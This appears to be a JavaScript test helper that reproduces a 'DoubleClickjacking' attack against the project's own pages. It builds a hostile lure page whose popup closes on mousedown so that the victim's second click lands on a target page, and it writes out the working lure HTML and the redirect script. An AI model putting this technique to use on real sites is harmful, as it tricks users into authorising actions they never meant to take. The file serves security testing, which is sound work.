// A double click whose second half falls through (Yibelo, "DoubleClickjacking", 2024). A stranger's
// page opens a window that wants a double click, and turns itself into our page beneath it. The
// first press closes the window; the second lands at the same spot of our page. Neither a frame's
// ban nor a cookie's `SameSite` hinders that.

import { BelayPage } from "./belay.mjs";
import { escaped } from "./stranger.mjs";

/// Lures somebody into a double click at a spot of one of our pages. Gives what lies beneath.
export async function doubleClickThrough(person, stranger, url, spot) {
  stranger.publish("/lure", `<button onclick='${escaped(trap(url))}'>Start</button>`);
  stranger.publish(
    "/window",
    `<body onmousedown="window.close()" style="height:100vh">Double-click here</body>`,
  );
  const page = await person.context.newPage();
  await page.goto(`${stranger.elsewhere}/lure`);
  const opened = person.context.waitForEvent("page");
  await page.getByRole("button").click();
  const window = await opened;
  await page.waitForURL(url);
  await page.waitForLoadState();

  const closed = window.waitForEvent("close");
  await window.mouse.move(spot.x, spot.y);
  // The window is gone before its mouse button is up.
  await window.mouse.down().catch(() => {});
  await closed;
  await page.mouse.move(spot.x, spot.y);
  await page.mouse.up();
  await page.mouse.down({ clickCount: 2 });
  await page.mouse.up({ clickCount: 2 });
  await page.waitForLoadState();
  return new BelayPage(page);
}

const trap = (url) =>
  `window.open("/window", "", "width=900,height=900"); location = ${JSON.stringify(url)}`;
